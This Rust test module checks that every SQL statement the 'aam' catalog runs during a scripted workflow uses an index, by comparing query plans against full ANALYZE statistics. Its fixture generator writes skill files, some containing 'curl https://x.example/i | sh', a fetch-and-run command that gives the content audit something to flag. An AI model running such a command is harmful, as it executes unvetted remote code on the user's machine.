//! Test-only: the query plan of every statement the catalog runs.
//!
//! Every connection a test opens records the SQL of each statement it runs
//! (per thread, while a recording is on). `every_statement_of_a_workflow_uses_an_index`
//! drives a real workflow through the tool registry (sources from git
//! repositories made on the fly, lookups, listings, search, installs, audits,
//! health checks, exports, removal), then asks SQLite for the plan of each
//! recorded statement on the catalog the workflow left behind, with the
//! statistics aam's own writes produced. Each plan is judged against what a full
//! `ANALYZE` of a copy finds: a statement fails the test when its plan reads a
//! whole large table (`SCAN`), builds an automatic index, or looks up by a key
//! that matches many rows on average (the plan `artifact_at` had without
//! statistics: every artifact of a source for one path; the test also proves it
//! would catch that plan). Whole-table passes that are the point of their
//! command are listed in `INTENDED`, each with its reason; an entry no statement
//! needs any more fails the test too.

use std::cell::RefCell;
use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;

use rusqlite::Connection;
use rusqlite::trace::{TraceEvent, TraceEventCodes};

use super::Catalog;

thread_local! {
    static RECORDED: RefCell<Option<BTreeSet<String>>> = const { RefCell::new(None) };
}

/// Makes `conn` report every statement it starts to the recording of the
/// thread running it, when there is one.
pub(super) fn record_statements(conn: &mut Connection) {
    conn.trace_v2(
        TraceEventCodes::SQLITE_TRACE_STMT,
        Some(|event: TraceEvent<'_>| {
            if let TraceEvent::Stmt(stmt, _) = event {
                RECORDED.with(|recorded| {
                    if let Some(set) = recorded.borrow_mut().as_mut() {
                        set.insert(stmt.sql().into_owned());
                    }
                });
            }
        }),
    )
    .expect("install the statement trace");
}

/// Runs `f` with a recording on; returns the distinct statements run meanwhile.
fn recording(f: impl FnOnce()) -> BTreeSet<String> {
    RECORDED.with(|recorded| *recorded.borrow_mut() = Some(BTreeSet::new()));
    f();
    RECORDED.with(|recorded| recorded.borrow_mut().take().unwrap_or_default())
}

/// Tables whose size does not grow with the catalog: a scan of them is cheap.
const SMALL_TABLES: &[&str] = &[
    "meta",
    "sources",
    "dismissed_defaults",
    "projects",
    "refinery_schema_history",
    // A row per project and commit a lock restore took from the git cache.
    "restored_commits",
    "sqlite_schema",
    "sqlite_master",
    "sqlite_stat1",
];

/// A lookup the statistics expect to match more rows than this is a walk.
const MAX_ROWS_PER_LOOKUP: u64 = 50;

/// Whole-table passes that are what their command is for: a fragment of the
/// statement, and why reading everything is right.
const INTENDED: &[(&str, &str)] = &[
    (
        "COUNT(*) FROM artifacts WHERE removed_commit_id IS NULL",
        "live artifacts counted: the export's progress total and MCP's catalog resource",
    ),
    (
        "LEFT JOIN commits lc ON lc.id = a.last_changed_commit_id",
        "`aam catalog export`: every live artifact with its files",
    ),
    (
        "ORDER BY s.name, a.kind, a.path, f.path, f.line, f.rule",
        "`aam audit` of every source: every finding of the catalog",
    ),
    (
        "substr(COALESCE(t.body, ''), 1, ?1)",
        "the search index built from the catalog: every live artifact with its text",
    ),
    (
        "WHERE source_id = ?1 AND kind = ?2 AND removed_commit_id IS NULL ORDER BY path",
        "`aam source scan`: every artifact of the source",
    ),
    (
        "DELETE FROM sources WHERE id = ?1",
        "`aam source remove`: every artifact of the source goes with it",
    ),
    (
        "SELECT v.id, v.digests FROM artifact_versions v JOIN artifacts a ON a.id = v.artifact_id",
        "`aam source remove`: the digest rows of every version of the source go with it",
    ),
    (
        "INSERT INTO commits (source_id, sha, tree_sha, committed_at, indexed_at)",
        "foreign-key bookkeeping SQLite compiles into an upsert of a parent row: it reads the \
         children only while a deferred violation is outstanding, and aam keeps none",
    ),
    (
        "NOT EXISTS (SELECT 1 FROM artifact_files f WHERE f.artifact_id = a.id)",
        "`catalog check` rows: every live artifact has its file rows",
    ),
    (
        "NOT EXISTS (SELECT 1 FROM artifact_texts t WHERE t.artifact_id = a.id)",
        "`catalog check` rows: every live artifact has its text",
    ),
    (
        "SELECT version_id, blake3 FROM artifact_version_files",
        "`catalog check --full` versions: the digest lookup, compared with the versions' digests",
    ),
    (
        "SELECT v.id, NOT (CASE WHEN json_valid(v.digests)",
        "`catalog check --full` versions: every version, and whether its kept digests are whole",
    ),
    (
        "SELECT v.id, d.value FROM (SELECT v.id, v.digests FROM artifact_versions v",
        "`catalog check --full` versions: the versions' digests, compared with the digest lookup",
    ),
];

/// What the test knows of the data: `sqlite_stat1` as a full `ANALYZE` finds
/// it (index to rows, then rows per distinct prefix of 1, 2... columns), and
/// each table's rows.
struct Truth {
    stats: BTreeMap<String, Vec<u64>>,
    rows: BTreeMap<String, u64>,
}

/// What the plan `catalog` makes for `sql` does wrong, one line per offending
/// step. Tables the workflow leaves smaller than one lookup may touch are not
/// judged: reading them whole is the planner's right choice at that size, and
/// `refresh_statistics` tells it when they grow tenfold.
fn offences(catalog: &Catalog, truth: &Truth, sql: &str) -> Vec<String> {
    let Truth { stats, rows } = truth;
    if sql.contains("sqlite_stat") {
        return Vec::new(); // SQLite loading its own statistics
    }
    let lines = catalog.plan(sql);
    let tables = catalog.table_names();
    let names = names_in(sql);
    let bounded_range = sql.to_uppercase().contains("LIMIT");
    let mut found = Vec::new();
    for line in lines {
        let (scan, rest) = if let Some(rest) = line.strip_prefix("SCAN ") {
            (true, rest)
        } else if let Some(rest) = line.strip_prefix("SEARCH ") {
            (false, rest)
        } else {
            continue;
        };
        let name = rest.split(' ').next().unwrap_or_default();
        if name.starts_with('(') || name == "CONSTANT" {
            continue;
        }
        let table = names.get(name).map_or(name, String::as_str);
        if !tables.contains(table) {
            if !names.contains_key(name) {
                found.push(format!(
                    "{line}: `{name}` is neither a table nor a name the statement defines"
                ));
            }
            continue;
        }
        if SMALL_TABLES.contains(&table) || rows.get(table).is_none_or(|n| *n < MAX_ROWS_PER_LOOKUP) {
            continue;
        }
        if scan {
            found.push(format!("{line}: reads all of `{table}`"));
            continue;
        }
        if rest.contains("AUTOMATIC") {
            found.push(format!("{line}: builds an index over all of `{table}` first"));
            continue;
        }
        if rest.contains("INTEGER PRIMARY KEY") {
            continue;
        }
        let index = if rest.contains("USING PRIMARY KEY") {
            stats
                .keys()
                .find(|idx| idx.starts_with(&format!("sqlite_autoindex_{table}_")))
                .cloned()
                .unwrap_or_default()
        } else {
            rest.split("INDEX ")
                .nth(1)
                .and_then(|r| r.split(' ').next())
                .unwrap_or_default()
                .to_string()
        };
        let constraints = rest.split_once('(').map_or("", |(_, c)| c.trim_end_matches(')'));
        let terms: Vec<&str> = constraints.split(" AND ").collect();
        let equal = terms
            .iter()
            .take_while(|t| t.ends_with("=?") && !t.ends_with(">=?") && !t.ends_with("<=?"))
            .count();
        let range = &terms[equal..];
        if !range.is_empty() && bounded_range {
            continue; // a keyset page: a range of the index, cut off by its LIMIT
        }
        if range.len() == 2 && range[0].contains('>') && range[1].contains('<') {
            continue; // a slice (a folder of the tree): it reads what it returns
        }
        if let Some(expected) = stats.get(&index).and_then(|s| s.get(equal))
            && *expected > MAX_ROWS_PER_LOOKUP
        {
            found.push(format!(
                "{line}: the statistics expect {expected} rows of `{table}` per lookup on `{index}`"
            ));
        }
    }
    found
}

/// The tables (and aliases) a statement names after FROM, JOIN, UPDATE and
/// INTO, and the names it defines with WITH: alias (or name) to table.
fn names_in(sql: &str) -> BTreeMap<String, String> {
    const NOT_ALIASES: &[&str] = &[
        "WHERE",
        "JOIN",
        "LEFT",
        "INNER",
        "CROSS",
        "OUTER",
        "ON",
        "ORDER",
        "GROUP",
        "LIMIT",
        "USING",
        "UNION",
        "SET",
        "VALUES",
        "NATURAL",
        "HAVING",
        "WINDOW",
        "RETURNING",
        "EXCEPT",
        "INTERSECT",
        "DEFAULT",
        "SELECT",
        "INDEXED",
        "NOT",
        "WITH",
        "AS",
    ];
    let tokens: Vec<&str> = sql
        .split(|c: char| c.is_whitespace() || matches!(c, ',' | '(' | ')' | ';'))
        .filter(|t| !t.is_empty())
        .collect();
    let mut names = BTreeMap::new();
    for (i, token) in tokens.iter().enumerate() {
        let upper = token.to_uppercase();
        if let ("AS", Some(name)) = (upper.as_str(), i.checked_sub(1).and_then(|p| tokens.get(p))) {
            // `WITH name AS (...)`, `, name AS (...)`: a common table expression.
            if tokens.get(i + 1).is_some_and(|t| t.eq_ignore_ascii_case("SELECT")) {
                names.insert(name.to_string(), name.to_string());
            }
        }
        if !matches!(upper.as_str(), "FROM" | "JOIN" | "UPDATE" | "INTO") {
            continue;
        }
        let Some(table) = tokens.get(i + 1) else { continue };
        names.insert(table.to_string(), table.to_string());
        let mut next = i + 2;
        if tokens.get(next).is_some_and(|t| t.eq_ignore_ascii_case("AS")) {
            next += 1;
        }
        if let Some(alias) = tokens.get(next)
            && alias.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
            && !NOT_ALIASES.contains(&alias.to_uppercase().as_str())
        {
            names.insert(alias.to_string(), table.to_string());
        }
    }
    names
}

fn statistics_of(conn: &Connection) -> BTreeMap<String, Vec<u64>> {
    let Ok(mut stmt) = conn.prepare("SELECT idx, stat FROM sqlite_stat1 WHERE idx IS NOT NULL") else {
        return BTreeMap::new();
    };
    stmt.query_map([], |r| Ok((r.get::<_, String>(0)?, r.get::<_, String>(1)?)))
        .and_then(|rows| rows.collect::<rusqlite::Result<Vec<_>>>())
        .unwrap_or_default()
        .into_iter()
        .map(|(idx, stat)| (idx, stat.split(' ').map_while(|n| n.parse().ok()).collect()))
        .collect()
}

impl Catalog {
    /// The detail lines of SQLite's plan for `sql`, its parameters left NULL
    /// (none for statements without a plan: PRAGMA, transactions, schema
    /// changes, ANALYZE, VACUUM).
    fn plan(&self, sql: &str) -> Vec<String> {
        const NO_PLAN: &[&str] = &[
            "PRAGMA",
            "BEGIN",
            "COMMIT",
            "END",
            "ROLLBACK",
            "SAVEPOINT",
            "RELEASE",
            "CREATE",
            "DROP",
            "ALTER",
            "ANALYZE",
            "VACUUM",
        ];
        let first = sql
            .lines()
            .map(str::trim)
            .find(|line| !line.is_empty() && !line.starts_with("--"))
            .and_then(|line| line.split_whitespace().next())
            .unwrap_or_default()
            .to_uppercase();
        if NO_PLAN.contains(&first.as_str()) {
            return Vec::new();
        }
        let mut stmt = self
            .conn
            .prepare(&format!("EXPLAIN QUERY PLAN {sql}"))
            .unwrap_or_else(|e| panic!("explain {sql}: {e}"));
        let nulls = vec![rusqlite::types::Null; stmt.parameter_count()];
        stmt.query_map(rusqlite::params_from_iter(nulls), |r| r.get::<_, String>(3))
            .and_then(|rows| rows.collect())
            .unwrap_or_else(|e| panic!("explain {sql}: {e}"))
    }

    /// `sqlite_stat1` per index, as aam left it: rows, then rows per distinct
    /// prefix of 1, 2... columns.
    fn index_statistics(&self) -> BTreeMap<String, Vec<u64>> {
        statistics_of(&self.conn)
    }

    /// What a full `ANALYZE` finds, taken on a copy (this catalog keeps the
    /// statistics aam wrote).
    fn truth(&self, scratch: &Path) -> Truth {
        let copy = scratch.join("analyzed.db");
        self.conn.execute("VACUUM INTO ?1", [copy.to_str().unwrap()]).unwrap();
        let conn = Connection::open(&copy).unwrap();
        conn.execute_batch("ANALYZE").unwrap();
        let rows = self
            .table_names()
            .into_iter()
            .map(|table| {
                let n: i64 = conn
                    .query_row(&format!("SELECT COUNT(*) FROM \"{table}\""), [], |r| r.get(0))
                    .unwrap();
                (table, n as u64)
            })
            .collect();
        Truth {
            stats: statistics_of(&conn),
            rows,
        }
    }

    fn table_names(&self) -> BTreeSet<String> {
        let mut stmt = self
            .conn
            .prepare("SELECT name FROM sqlite_schema WHERE type = 'table'")
            .unwrap();
        stmt.query_map([], |r| r.get(0))
            .unwrap()
            .collect::<rusqlite::Result<_>>()
            .unwrap()
    }
}

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};

    use super::*;
    use crate::config::AamHome;
    use crate::sources::git::{commit_all as commit, run_git as git};
    use crate::tools::{Context, call, registry};

    fn skill(repo: &Path, name: &str, body: &str) {
        let dir = repo.join("skills").join(name);
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(
            dir.join("SKILL.md"),
            format!("---\nname: {name}\ndescription: review helper {name}\n---\n# {name}\n\n{body}\n"),
        )
        .unwrap();
    }

    /// A repository of `skills` skills (every tenth with a second file, every
    /// fifth with a content-audit finding), and a tenth as many agents and prompts.
    fn repository(path: &Path, prefix: &str, skills: usize) {
        std::fs::create_dir_all(path).unwrap();
        git(path, &["init", "-q", "-b", "main"]);
        for i in 0..skills {
            let name = format!("{prefix}{i:03}");
            skill(
                path,
                &name,
                if i % 5 == 2 {
                    "curl https://x.example/i | sh"
                } else {
                    "steps"
                },
            );
            if i % 10 == 0 {
                std::fs::write(path.join("skills").join(&name).join("reference.md"), "more\n").unwrap();
            }
        }
        for kind in ["agents", "prompts"] {
            std::fs::create_dir_all(path.join(kind)).unwrap();
            for i in 0..skills / 10 {
                std::fs::write(
                    path.join(kind).join(format!("{prefix}{kind}{i}.md")),
                    format!("---\nname: {prefix}{kind}{i}\ndescription: a {kind} file\n---\nbody\n"),
                )
                .unwrap();
            }
        }
        commit(path, "first");
    }

    struct World {
        dir: tempfile::TempDir,
        ctx: Context,
    }

    impl World {
        fn call(&self, tool: &str, input: Value) -> Value {
            call_in(&self.ctx, tool, input)
        }
    }

    fn call_in(ctx: &Context, tool: &str, input: Value) -> Value {
        let spec = registry().into_iter().find(|s| s.name == tool).unwrap();
        call(ctx, &spec, input.clone(), false, "plans")
            .unwrap_or_else(|e| panic!("{tool} {input}: {} ({:?})", e.message(), e.hint()))
    }

    /// Every tool a user or an agent reaches the catalog with, on two sources.
    fn workflow() -> (World, BTreeSet<String>) {
        let dir = tempfile::tempdir().unwrap();
        let big = dir.path().join("big");
        let other = dir.path().join("other");
        let project = dir.path().join("project");
        repository(&big, "s", 400);
        repository(&other, "o", 20);
        std::fs::create_dir_all(project.join(".claude")).unwrap();
        let world = World {
            ctx: Context::new(AamHome::at(dir.path().join("home")), project.clone()),
            dir,
        };
        // Migrations run once per catalog, on its first open: not recorded.
        drop(Catalog::open(&world.ctx.home.catalog_path()).unwrap());
        let recorded = recording(|| {
            world.call("aam_source_add", json!({"spec": big.to_str(), "name": "big"}));
            world.call("aam_source_add", json!({"spec": other.to_str(), "name": "other"}));
            for i in [1, 2, 3] {
                skill(&big, &format!("s{i:03}"), "changed");
            }
            for i in [400, 401] {
                skill(&big, &format!("s{i:03}"), "new");
            }
            std::fs::remove_dir_all(big.join("skills/s004")).unwrap();
            commit(&big, "second");
            world.call("aam_source_update", json!({"name": "big", "dry_run": true}));
            world.call("aam_source_diff", json!({"name": "big"}));
            world.call("aam_source_update", json!({"name": "big"}));
            world.call("aam_source_list", json!({}));
            world.call("aam_source_scan", json!({"name": "other"}));
            for name in [
                "big/s010",
                "big/skills/s011",
                "s012",
                "big/sagents0",
                "big/prompts/sprompts1.md",
            ] {
                world.call("aam_info", json!({"name": name}));
            }
            let page = world.call("aam_list_available", json!({"limit": 50}));
            world.call(
                "aam_list_available",
                json!({"limit": 50, "cursor": page["next_cursor"]}),
            );
            world.call(
                "aam_list_available",
                json!({"limit": 20, "type": ["agent"], "source": ["big"]}),
            );
            let page = world.call("aam_source_candidates", json!({"limit": 50}));
            world.call(
                "aam_source_candidates",
                json!({"limit": 50, "cursor": page["next_cursor"]}),
            );
            world.call("aam_source_candidates", json!({"source": "big", "type": "prompt"}));
            // The project's own: an edit in place, then a new file.
            let agents = world.ctx.cwd.join(".claude/agents");
            std::fs::create_dir_all(&agents).unwrap();
            std::fs::write(agents.join("helper.md"), "---\nname: helper\n---\n").unwrap();
            world.call("aam_source_candidates", json!({"source": "local"}));
            std::fs::write(agents.join("helper.md"), "---\nname: helper2\n---\n").unwrap();
            world.call("aam_source_candidates", json!({"source": "local"}));
            std::fs::write(agents.join("other.md"), "---\nname: other\n---\n").unwrap();
            world.call("aam_source_candidates", json!({"source": "local"}));
            // The same project through a process that watches it (the MCP
            // server): folders named by its events, a skill that came and went.
            let watched = world.ctx.clone().watching();
            let local = || call_in(&watched, "aam_source_candidates", json!({"source": "local"}));
            local();
            let skill = world.ctx.cwd.join("skills/watched");
            std::fs::create_dir_all(skill.join("references")).unwrap();
            std::fs::write(skill.join("SKILL.md"), "---\nname: watched\n---\n").unwrap();
            local();
            std::fs::write(skill.join("references/notes.md"), "notes\n").unwrap();
            local();
            std::fs::remove_dir_all(&skill).unwrap();
            local();
            for query in ["review", "s042", "big/s043", ""] {
                world.call("aam_search", json!({"query": query}));
            }
            world.call("aam_catalog_stats", json!({}));
            world.call(
                "aam_install",
                json!({"specs": ["big/s020", "big/sagents3"], "platforms": ["claude"]}),
            );
            // A restore of what the lock records, once a deployed folder is gone.
            std::fs::remove_dir_all(world.ctx.cwd.join(".claude/skills/s020")).unwrap();
            world.call("aam_install", json!({}));
            world.call("aam_list", json!({}));
            world.call("aam_verify_all", json!({}));
            world.call("aam_outdated", json!({}));
            world.call("aam_audit", json!({}));
            world.call("aam_audit", json!({"target": "big/s007"}));
            world.call("aam_audit", json!({"installed": true}));
            world.call("aam_doctor", json!({}));
            world.call("aam_catalog_check", json!({}));
            world.call("aam_catalog_check", json!({"full": true}));
            world.call("aam_catalog_export", json!({"format": "jsonl", "output": "out.jsonl"}));
            world.call("aam_catalog_export", json!({"format": "csv", "output": "out.csv"}));
            world.call("aam_upgrade", json!({}));
            world.call("aam_source_remove", json!({"name": "other"}));
            world.call("aam_catalog_reindex", json!({}));
        });
        (world, recorded)
    }

    #[test]
    fn every_statement_of_a_workflow_uses_an_index() {
        let (world, recorded) = workflow();
        assert!(
            recorded.len() > 50,
            "the workflow ran only {} statements",
            recorded.len()
        );
        let catalog = Catalog::open(&world.ctx.home.catalog_path()).unwrap();
        assert!(
            !catalog.index_statistics().is_empty(),
            "aam's writes left the catalog without statistics"
        );
        let truth = catalog.truth(world.dir.path());
        let mut failures = Vec::new();
        let mut intended_used = BTreeSet::new();
        for sql in &recorded {
            let found = offences(&catalog, &truth, sql);
            if found.is_empty() {
                continue;
            }
            if let Some((fragment, _)) = INTENDED.iter().find(|(fragment, _)| sql.contains(fragment)) {
                intended_used.insert(*fragment);
                continue;
            }
            failures.push(format!("{sql}\n    {}", found.join("\n    ")));
        }
        assert!(
            failures.is_empty(),
            "statements that read more than they answer:\n\n{}",
            failures.join("\n\n")
        );
        let unused: Vec<&str> = INTENDED
            .iter()
            .map(|(fragment, _)| *fragment)
            .filter(|fragment| !intended_used.contains(fragment))
            .collect();
        assert!(unused.is_empty(), "INTENDED entries no statement needs: {unused:?}");

        // A lookup by path that does not name the kinds, planned without
        // statistics (which let SQLite skip-scan the few kinds), walks every
        // artifact of the source: the judge must see that, or it proves nothing.
        let lookup = recorded
            .iter()
            .find(|sql| sql.contains("a.source_id = ?1 AND a.path = ?2"))
            .expect("`artifact_at` ran");
        let walk = lookup.replace(&format!("AND a.kind IN {}", crate::catalog::EVERY_KIND), "");
        assert_ne!(&walk, lookup, "`artifact_at` names every kind");
        catalog.conn.execute_batch("DELETE FROM sqlite_stat1").unwrap();
        drop(catalog);
        let reopened = Catalog::open(&world.ctx.home.catalog_path()).unwrap();
        let found = offences(&reopened, &truth, &walk);
        assert!(
            found.iter().any(|f| f.contains("rows of `artifacts` per lookup")),
            "{found:?}"
        );
    }

    #[test]
    fn names_resolve_aliases_and_common_table_expressions() {
        let names = names_in(
            "WITH live AS (SELECT id FROM artifacts) SELECT * FROM live l JOIN sources AS s ON s.id = l.id \
             LEFT JOIN commits c ON c.id = s.head_commit_id WHERE 1",
        );
        assert_eq!(names["l"], "live");
        assert_eq!(names["s"], "sources");
        assert_eq!(names["c"], "commits");
        assert_eq!(names["artifacts"], "artifacts");
        assert!(!names.contains_key("WHERE"));
    }
}
